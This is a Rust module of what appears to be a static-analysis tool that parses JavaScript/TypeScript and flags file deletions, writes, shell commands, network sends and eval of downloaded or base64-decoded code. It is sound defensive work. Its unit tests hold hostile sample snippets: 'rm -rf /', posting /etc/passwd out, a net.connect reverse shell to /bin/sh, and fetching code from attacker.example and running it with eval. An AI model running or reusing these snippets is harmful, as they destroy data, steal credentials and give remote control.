//! JavaScript and TypeScript (Node, Deno, Bun), read with oxc's parser:
//! `require`, `import` (static and dynamic, with `.then(m => …)`) and
//! destructuring are tracked so that `const {execFileSync} =
//! require('child_process')` resolves, and each call is matched against
//! Node's `child_process`, `fs`, `os`, `path`, `net`, `http`, and the
//! `Deno` and `Bun` globals.

use std::collections::HashMap;

use oxc_allocator::Allocator;
use oxc_ast::ast::{
    Argument, ArrayExpressionElement, AssignmentExpression, AssignmentOperator, AssignmentTarget,
    BinaryOperator, BindingPattern, CallExpression, Expression, FormalParameters,
    ImportDeclaration, ImportDeclarationSpecifier, NewExpression, ObjectPropertyKind,
    TaggedTemplateExpression, TemplateLiteral, VariableDeclarator,
};
use oxc_ast_visit::{walk, Visit};
use oxc_parser::Parser;
use oxc_span::SourceType;

use crate::{b64, glob, home, join_paths, Facts, Language, Sink, Val};

/// The facts of a JavaScript/TypeScript program, or `None` when it does
/// not parse as a module, a script or TypeScript.
pub(crate) fn analyse(code: &str, depth: u8) -> Option<Facts> {
    for source_type in [SourceType::mjs(), SourceType::cjs(), SourceType::ts()] {
        let allocator = Allocator::default();
        let ret = Parser::new(&allocator, code, source_type).parse();
        if ret.panicked || !ret.diagnostics.is_empty() {
            continue;
        }
        let mut w = Walker {
            env: HashMap::new(),
            sink: Sink::new(depth),
        };
        w.visit_program(&ret.program);
        let mut facts = w.sink.finish();
        facts.parsed = true;
        return Some(facts);
    }
    None
}

struct Walker {
    env: HashMap<String, Val>,
    sink: Sink,
}

enum Callee {
    Func(String),
    Method(Val, String),
}

/// A module specifier as a name: `node:fs` and `fs/promises` are `fs`.
fn module(spec: &str) -> String {
    let s = spec.strip_prefix("node:").unwrap_or(spec);
    match s {
        "fs/promises" | "fs-extra" => "fs".into(),
        "child_process" | "node:child_process" => "child_process".into(),
        other => other.to_string(),
    }
}

/// A qualified name with aliases folded (`fs.promises.rm` is `fs.rm`).
fn canonical(q: &str) -> String {
    let q = q.replace("fs.promises.", "fs.");
    q.strip_prefix("globalThis.")
        .or_else(|| q.strip_prefix("window."))
        .map_or(q.clone(), str::to_string)
}

impl<'a> Visit<'a> for Walker {
    fn visit_import_declaration(&mut self, it: &ImportDeclaration<'a>) {
        let m = module(it.source.value.as_str());
        if let Some(specs) = &it.specifiers {
            for s in specs {
                match s {
                    ImportDeclarationSpecifier::ImportSpecifier(s) => {
                        let imported = s.imported.name();
                        self.env.insert(
                            s.local.name.as_str().to_string(),
                            Val::Name(format!("{m}.{}", imported.as_str())),
                        );
                    }
                    ImportDeclarationSpecifier::ImportDefaultSpecifier(s) => {
                        self.env
                            .insert(s.local.name.as_str().to_string(), Val::Name(m.clone()));
                    }
                    ImportDeclarationSpecifier::ImportNamespaceSpecifier(s) => {
                        self.env
                            .insert(s.local.name.as_str().to_string(), Val::Name(m.clone()));
                    }
                }
            }
        }
    }

    fn visit_variable_declarator(&mut self, it: &VariableDeclarator<'a>) {
        if let Some(init) = &it.init {
            let v = self.eval(init);
            self.bind(&it.id, v);
        }
        walk::walk_variable_declarator(self, it);
    }

    fn visit_assignment_expression(&mut self, it: &AssignmentExpression<'a>) {
        if let AssignmentTarget::AssignmentTargetIdentifier(id) = &it.left {
            let mut v = self.eval(&it.right);
            if it.operator == AssignmentOperator::Addition {
                // `d += chunk`
                let old = self.env.get(id.name.as_str()).cloned();
                v = old.unwrap_or(Val::Unknown).concat(&v);
            }
            self.env.insert(id.name.as_str().to_string(), v);
        }
        walk::walk_assignment_expression(self, it);
    }

    fn visit_call_expression(&mut self, it: &CallExpression<'a>) {
        let args = self.args(&it.arguments);
        match self.callee(&it.callee) {
            Some(Callee::Func(q)) => {
                // `import('fs').then(fs => …)`: the callback's parameter is the module.
                if let Some(m) = q.strip_suffix(".then") {
                    if let Some(params) = it.arguments.first().and_then(callback_params) {
                        self.bind_params(params, Val::Name(m.to_string()));
                    }
                }
                // `https.get(url, res => …)`: the callback gets the download.
                if matches!(
                    q.as_str(),
                    "http.get" | "https.get" | "http.request" | "https.request"
                ) {
                    self.bind_callbacks(&it.arguments, Val::Downloaded);
                }
                self.call_effects(&q, &args);
            }
            Some(Callee::Method(recv, m)) => {
                // `res.on('data', c => …)`, `fetch(u).then(r => …)`.
                if recv == Val::Downloaded {
                    self.bind_callbacks(&it.arguments, Val::Downloaded);
                }
                self.method_effects(&recv, &m, &args)
            }
            None => {}
        }
        walk::walk_call_expression(self, it);
    }

    fn visit_new_expression(&mut self, it: &NewExpression<'a>) {
        let args = self.args(&it.arguments);
        if let Some(Callee::Func(q)) = self.callee(&it.callee) {
            self.call_effects(&q, &args);
        }
        walk::walk_new_expression(self, it);
    }

    fn visit_tagged_template_expression(&mut self, it: &TaggedTemplateExpression<'a>) {
        if let Some(Callee::Func(q)) = self.callee(&it.tag) {
            let q = canonical(&q);
            if matches!(q.as_str(), "bun.$" | "Bun.$" | "zx.$" | "$" | "execa.$") {
                let v = self.template(&it.quasi);
                self.sink.shell(&v);
            }
        }
        walk::walk_tagged_template_expression(self, it);
    }
}

/// The parameters of a function or arrow function argument.
fn callback_params<'b, 'a>(arg: &'b Argument<'a>) -> Option<&'b FormalParameters<'a>> {
    match arg.as_expression()? {
        Expression::ArrowFunctionExpression(f) => Some(&f.params),
        Expression::FunctionExpression(f) => Some(&f.params),
        _ => None,
    }
}

impl Walker {
    /// Bind the first parameter of every callback argument to `v`.
    fn bind_callbacks(&mut self, args: &[Argument<'_>], v: Val) {
        for a in args {
            if let Some(params) = callback_params(a) {
                self.bind_params(params, v.clone());
            }
        }
    }

    fn bind_params(&mut self, params: &FormalParameters<'_>, v: Val) {
        if let Some(first) = params.items.first() {
            self.bind(&first.pattern, v);
        }
    }

    fn bind(&mut self, pat: &BindingPattern<'_>, v: Val) {
        match pat {
            BindingPattern::BindingIdentifier(id) => {
                self.env.insert(id.name.as_str().to_string(), v);
            }
            BindingPattern::ObjectPattern(o) => {
                for p in &o.properties {
                    let field = match (&v, p.key.static_name()) {
                        (Val::Name(m), Some(k)) => Val::Name(format!("{m}.{k}")),
                        (Val::Obj(_), Some(k)) => v.field(&k).cloned().unwrap_or(Val::Unknown),
                        _ => Val::Unknown,
                    };
                    self.bind(&p.value, field);
                }
            }
            BindingPattern::ArrayPattern(a) => {
                for p in a.elements.iter().flatten() {
                    self.bind(p, Val::Unknown);
                }
            }
            BindingPattern::AssignmentPattern(a) => self.bind(&a.left, v),
        }
    }

    fn args(&mut self, args: &[Argument<'_>]) -> Vec<Val> {
        args.iter()
            .map(|a| match a.as_expression() {
                Some(e) => self.eval(e),
                None => Val::Unknown,
            })
            .collect()
    }

    fn callee(&mut self, e: &Expression<'_>) -> Option<Callee> {
        match e {
            Expression::StaticMemberExpression(m) => {
                let base = self.eval(&m.object);
                let prop = m.property.name.as_str().to_string();
                Some(match base {
                    Val::Name(q) => Callee::Func(canonical(&format!("{q}.{prop}"))),
                    other => Callee::Method(other, prop),
                })
            }
            Expression::ComputedMemberExpression(m) => {
                let base = self.eval(&m.object);
                let prop = self.eval(&m.expression);
                let prop = prop.str()?.to_string();
                Some(match base {
                    Val::Name(q) => Callee::Func(canonical(&format!("{q}.{prop}"))),
                    other => Callee::Method(other, prop),
                })
            }
            Expression::ParenthesizedExpression(p) => self.callee(&p.expression),
            other => match self.eval(other) {
                Val::Name(q) => Some(Callee::Func(canonical(&q))),
                _ => None,
            },
        }
    }

    fn template(&mut self, t: &TemplateLiteral<'_>) -> Val {
        let mut out = String::new();
        for (i, q) in t.quasis.iter().enumerate() {
            match &q.value.cooked {
                Some(c) => out.push_str(c.as_str()),
                None => out.push_str(q.value.raw.as_str()),
            }
            if let Some(e) = t.expressions.get(i) {
                match self.eval(e) {
                    Val::Str(s) | Val::Decoded(s) => out.push_str(&s),
                    _ => return Val::Unknown,
                }
            }
        }
        Val::Str(out)
    }

    fn eval(&mut self, e: &Expression<'_>) -> Val {
        match e {
            Expression::StringLiteral(s) => Val::Str(s.value.as_str().to_string()),
            Expression::TemplateLiteral(t) => self.template(t),
            Expression::BooleanLiteral(b) => Val::Bool(b.value),
            Expression::Identifier(id) => {
                let name = id.name.as_str();
                self.env
                    .get(name)
                    .cloned()
                    .unwrap_or_else(|| Val::Name(name.to_string()))
            }
            Expression::StaticMemberExpression(m) => {
                let base = self.eval(&m.object);
                member(&mut self.sink, base, m.property.name.as_str())
            }
            Expression::ComputedMemberExpression(m) => {
                let base = self.eval(&m.object);
                match self.eval(&m.expression) {
                    Val::Str(p) => member(&mut self.sink, base, &p),
                    _ => Val::Unknown,
                }
            }
            Expression::BinaryExpression(b) if b.operator == BinaryOperator::Addition => {
                let l = self.eval(&b.left);
                let r = self.eval(&b.right);
                l.concat(&r)
            }
            Expression::ParenthesizedExpression(p) => self.eval(&p.expression),
            Expression::AwaitExpression(a) => self.eval(&a.argument),
            Expression::ImportExpression(i) => match self.eval(&i.source) {
                Val::Str(m) => Val::Name(module(&m)),
                _ => Val::Unknown,
            },
            Expression::ArrayExpression(a) => Val::List(
                a.elements
                    .iter()
                    .map(|el| match el {
                        ArrayExpressionElement::SpreadElement(_)
                        | ArrayExpressionElement::Elision(_) => Val::Unknown,
                        other => match other.as_expression() {
                            Some(e) => self.eval(e),
                            None => Val::Unknown,
                        },
                    })
                    .collect(),
            ),
            Expression::ObjectExpression(o) => {
                let mut fields = Vec::new();
                for p in &o.properties {
                    if let ObjectPropertyKind::ObjectProperty(p) = p {
                        if let Some(k) = p.key.static_name() {
                            let v = self.eval(&p.value);
                            fields.push((k.to_string(), v));
                        }
                    }
                }
                Val::Obj(fields)
            }
            Expression::CallExpression(c) => {
                let args = self.args(&c.arguments);
                match self.callee(&c.callee) {
                    Some(Callee::Func(q)) => call_value(&q, &args),
                    Some(Callee::Method(recv, m)) => method_value(&recv, &m, &args),
                    None => Val::Unknown,
                }
            }
            Expression::NewExpression(c) => {
                let args = self.args(&c.arguments);
                match self.callee(&c.callee) {
                    Some(Callee::Func(q)) => call_value(&q, &args),
                    _ => Val::Unknown,
                }
            }
            _ => Val::Unknown,
        }
    }

    fn call_effects(&mut self, q: &str, args: &[Val]) {
        let s = &mut self.sink;
        let arg = |i: usize| args.get(i).cloned().unwrap_or(Val::Unknown);
        let opts_flag = |i: usize, name: &str| {
            args.get(i)
                .and_then(|o| o.field(name))
                .is_some_and(Val::truthy)
        };
        let (module, func) = q.rsplit_once('.').unwrap_or(("", q));
        match (module, func) {
            ("child_process", "exec" | "execSync") => s.shell(&arg(0)),
            ("child_process", "execFile" | "execFileSync" | "spawn" | "spawnSync" | "fork") => {
                let mut words = vec![arg(0)];
                if let Val::List(rest) = arg(1) {
                    words.extend(rest);
                }
                let shell = opts_flag(1, "shell") || opts_flag(2, "shell");
                if shell && words.len() == 1 {
                    s.shell(&arg(0));
                } else {
                    s.argv(&words);
                }
            }
            ("fs", "rmSync" | "rm" | "rmdirSync" | "rmdir") => {
                let rec = opts_flag(1, "recursive");
                s.delete(&arg(0), rec);
            }
            ("fs", "unlinkSync" | "unlink") => s.delete(&arg(0), false),
            (
                "fs",
                "writeFileSync" | "writeFile" | "createWriteStream" | "outputFile"
                | "outputFileSync",
            ) => {
                let append = args
                    .get(2)
                    .or(args.get(1))
                    .and_then(|o| o.field("flag").or(o.field("flags")))
                    .and_then(Val::str)
                    .is_some_and(|f| f.contains('a'));
                s.write(&arg(0), append);
            }
            ("fs", "appendFileSync" | "appendFile") => s.write(&arg(0), true),
            ("fs", "readFileSync" | "readFile" | "createReadStream") => s.read(&arg(0)),
            ("fs", "copyFileSync" | "copyFile" | "cpSync" | "cp" | "copySync" | "copy") => {
                s.read(&arg(0));
                s.write(&arg(1), false);
            }
            ("fs", "renameSync" | "rename" | "moveSync" | "move") => {
                s.delete(&arg(0), false);
                s.write(&arg(1), false);
            }
            ("fs", "symlinkSync" | "symlink" | "linkSync" | "link") => s.write(&arg(1), false),
            ("fs", "truncateSync" | "truncate") => s.write(&arg(0), false),
            ("fs", "removeSync" | "remove" | "emptyDirSync" | "emptyDir") => {
                s.delete(&arg(0), true)
            }
            ("fs", "openSync" | "open") => match arg(1).str() {
                Some(f) if f.contains('a') => s.write(&arg(0), true),
                Some(f) if f.contains(['w', '+']) => s.write(&arg(0), false),
                _ => s.read(&arg(0)),
            },
            ("Deno", "remove" | "removeSync") => s.delete(&arg(0), opts_flag(1, "recursive")),
            ("Deno", "writeTextFile" | "writeTextFileSync" | "writeFile" | "writeFileSync") => {
                s.write(&arg(0), opts_flag(2, "append"))
            }
            ("Deno", "readTextFile" | "readTextFileSync" | "readFile" | "readFileSync") => {
                s.read(&arg(0))
            }
            ("Deno", "Command") => {
                let mut words = vec![arg(0)];
                if let Some(Val::List(rest)) = args.get(1).and_then(|o| o.field("args")) {
                    words.extend(rest.iter().cloned());
                }
                s.argv(&words);
            }
            ("Deno", "run") => {
                if let Some(Val::List(cmd)) = args.first().and_then(|o| o.field("cmd")) {
                    s.argv(cmd);
                }
            }
            ("Bun", "spawn" | "spawnSync") => match arg(0) {
                Val::List(words) => s.argv(&words),
                o => {
                    if let Some(Val::List(cmd)) = o.field("cmd") {
                        s.argv(cmd);
                    }
                }
            },
            ("Bun", "write") => s.write(&arg(0), false),
            ("", "fetch") => {
                s.url(&arg(0));
                let send = args.get(1).is_some_and(|o| {
                    o.field("body").is_some()
                        || o.field("method").and_then(Val::str).is_some_and(|m| {
                            !matches!(m.to_ascii_uppercase().as_str(), "GET" | "HEAD")
                        })
                });
                s.facts.network_send |= send;
            }
            ("http" | "https", "request" | "get") => {
                s.url(&arg(0));
                if func == "request" {
                    s.facts.network_send = true;
                }
            }
            ("net" | "tls", "connect" | "createConnection" | "Socket") => {
                s.socket = true;
                s.facts.network = true;
            }
            ("axios", "post" | "put" | "patch") => {
                s.url(&arg(0));
                s.facts.network_send = true;
            }
            ("axios", "get") => s.url(&arg(0)),
            ("", "eval" | "Function")
            | ("vm", "runInNewContext" | "runInThisContext" | "runInContext" | "Script") => {
                s.eval(Language::JavaScript, &arg(0))
            }
            ("process.env", _) | ("Deno.env", "get") => s.facts.reads_env = true,
            _ => {}
        }
    }

    fn method_effects(&mut self, recv: &Val, m: &str, args: &[Val]) {
        let s = &mut self.sink;
        match m {
            "pipe" if s.socket => s.dup = true,
            "write" | "end" if s.socket && matches!(recv, Val::Unknown) => {
                s.facts.network_send = true
            }
            _ => {}
        }
        let _ = args;
    }
}

/// `obj.prop` on a value.
fn member(sink: &mut Sink, base: Val, prop: &str) -> Val {
    match base {
        Val::Name(q) => {
            let q = canonical(&format!("{q}.{prop}"));
            match q.as_str() {
                "process.env" | "Deno.env" | "Bun.env" => {
                    sink.facts.reads_env = true;
                    Val::Name(q)
                }
                "process.env.HOME" | "process.env.USERPROFILE" | "Bun.env.HOME" => home(),
                _ => Val::Name(q),
            }
        }
        Val::Obj(_) => base.field(prop).cloned().unwrap_or(Val::Unknown),
        Val::Downloaded => Val::Downloaded,
        _ => Val::Unknown,
    }
}

/// The value of a call, when it is a module, a path or decoded text.
fn call_value(q: &str, args: &[Val]) -> Val {
    let first = args.first().cloned().unwrap_or(Val::Unknown);
    match q {
        "require" => match first.str() {
            Some(m) => Val::Name(module(m)),
            None => Val::Unknown,
        },
        "os.homedir" | "Deno.homeDir" => home(),
        "os.tmpdir" => Val::Str("/tmp".into()),
        "process.cwd" | "Deno.cwd" => Val::Str(".".into()),
        "path.join" | "path.resolve" | "path.posix.join" => join_paths(args),
        "path.normalize" | "String" | "fs.realpathSync" => first,
        "Deno.env.get" if first.str() == Some("HOME") => home(),
        "glob.sync" | "glob.globSync" | "fs.globSync" => glob(&first),
        "fs.readdirSync" => match first {
            Val::Str(d) => Val::Under(d),
            _ => Val::Unknown,
        },
        "atob" => decoded(first.str().and_then(b64::decode)),
        "Buffer.from" => match args.get(1).and_then(Val::str) {
            Some("base64" | "base64url") => decoded(first.str().and_then(b64::decode)),
            Some("hex") => decoded(first.str().and_then(b64::decode_hex)),
            _ => first,
        },
        "fetch" | "axios.get" => Val::Downloaded,
        "Deno.Command" => Val::Unknown,
        _ => Val::Unknown,
    }
}

fn decoded(bytes: Option<Vec<u8>>) -> Val {
    Val::Decoded(bytes.map(|b| b64::text(&b)).unwrap_or_default())
}

fn method_value(recv: &Val, m: &str, args: &[Val]) -> Val {
    match (recv, m) {
        (Val::Downloaded, _) => Val::Downloaded,
        (Val::Str(_) | Val::Decoded(_), "toString" | "trim") => recv.clone(),
        (Val::Str(a), "concat") => args
            .iter()
            .fold(Val::Str(a.clone()), |acc, v| acc.concat(v)),
        _ => Val::Unknown,
    }
}

#[cfg(test)]
mod tests {
    use crate::{analyse, Delete, Language, Write};

    fn js(code: &str) -> crate::Facts {
        let f = analyse(Language::JavaScript, code);
        assert!(f.parsed, "did not parse: {code}");
        f
    }

    fn del(path: &str, recursive: bool) -> Delete {
        Delete {
            path: path.into(),
            recursive,
        }
    }

    #[test]
    fn deletes() {
        assert_eq!(
            js("require('fs').rmSync('/home/u', {recursive: true, force: true})").deletes,
            [del("/home/u", true)]
        );
        assert_eq!(
            js("require('fs').rmSync(require('os').homedir(),{recursive:true})").deletes,
            [del("~", true)]
        );
        assert_eq!(
            js("import('fs').then(f=>f.rmSync('/home/u',{recursive:true}))").deletes,
            [del("/home/u", true)]
        );
        assert_eq!(
            js("await Deno.remove('/home/u', { recursive: true })").deletes,
            [del("/home/u", true)]
        );
        assert_eq!(
            js("import {rm} from 'node:fs/promises'; await rm(`${process.env.HOME}/x`, {recursive:true})")
                .deletes,
            [del("~/x", true)]
        );
        assert_eq!(
            js("require('fs').unlinkSync('a.txt')").deletes,
            [del("a.txt", false)]
        );
    }

    #[test]
    fn commands() {
        assert_eq!(
            js("const {execFileSync}=require('child_process');execFileSync('rm',['-rf',process.env.HOME])")
                .commands,
            ["rm -rf ~"]
        );
        assert_eq!(
            js("require('child_process').spawnSync('rm',['-rf','/'])").commands,
            ["rm -rf /"]
        );
        assert_eq!(
            js("new Deno.Command('rm',{args:['-rf','/']}).outputSync()").commands,
            ["rm -rf /"]
        );
        assert_eq!(
            js("Bun.spawnSync(['rm','-rf','/home/u'])").commands,
            ["rm -rf /home/u"]
        );
        let f = js("eval(Buffer.from('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJpZCIp','base64').toString())");
        assert!(f.evals_decoded);
        assert_eq!(f.commands, ["id"]);
    }

    #[test]
    fn writes_and_network() {
        assert_eq!(
            js("require('fs').writeFileSync(require('os').homedir()+'/.bashrc','x')").writes,
            [Write {
                path: "~/.bashrc".into(),
                append: false
            }]
        );
        let f = js("fetch('https://x.example', {method:'POST', body: require('fs').readFileSync('/etc/passwd')})");
        assert!(f.network_send);
        assert_eq!(f.reads, ["/etc/passwd"]);
        let f = js("const n=require('net'),cp=require('child_process');const sh=cp.spawn('/bin/sh',[]);const c=n.connect(4444,'h',()=>{c.pipe(sh.stdin);sh.stdout.pipe(c)})");
        assert!(f.socket_shell);
    }

    #[test]
    fn benign() {
        assert_eq!(
            js("require('fs').readFileSync('package.json')").reads,
            ["package.json"]
        );
        assert!(js("console.log(require('os').homedir())").is_empty());
        assert!(
            js("console.log(JSON.parse(require('fs').readFileSync(0,'utf8')).version)").is_empty()
        );
        assert!(js("console.log(process.versions.node)").is_empty());
        assert!(js("function f(p){ require('fs').rmSync(p) }").is_empty());
    }

    #[test]
    fn evals_downloaded_text() {
        for code in [
            "require('https').get('https://attacker.example/s.js',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})",
            "const https = require('https'); https.get('https://x.example/a.js', function (res) { let body = ''; res.on('data', (c) => { body += c; }); res.on('end', () => { new Function(body)(); }); });",
            "fetch('https://x.example/a.js').then(r => r.text()).then(t => eval(t))",
            "const r = await fetch('https://x.example/a.js'); eval(await r.text())",
        ] {
            let f = js(code);
            assert!(f.evals_downloaded, "{code}");
        }
        for code in [
            "const d = JSON.parse(require('fs').readFileSync('data.json','utf8')); eval(JSON.parse(d))",
            "require('https').get('https://registry.npmjs.org/x', r => { let d=''; r.on('data', c => d += c); r.on('end', () => console.log(JSON.parse(d).version)) })",
        ] {
            assert!(!js(code).evals_downloaded, "{code}");
        }
    }
}
